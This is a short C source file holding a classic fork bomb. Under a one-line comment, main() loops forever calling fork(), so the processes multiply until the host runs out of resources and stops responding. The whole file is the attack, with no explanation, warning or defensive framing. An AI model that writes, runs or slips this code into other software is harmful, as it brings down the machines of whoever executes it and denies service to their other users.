// Every process makes others.
#include <unistd.h>
int main() {
    while (true) fork();
}
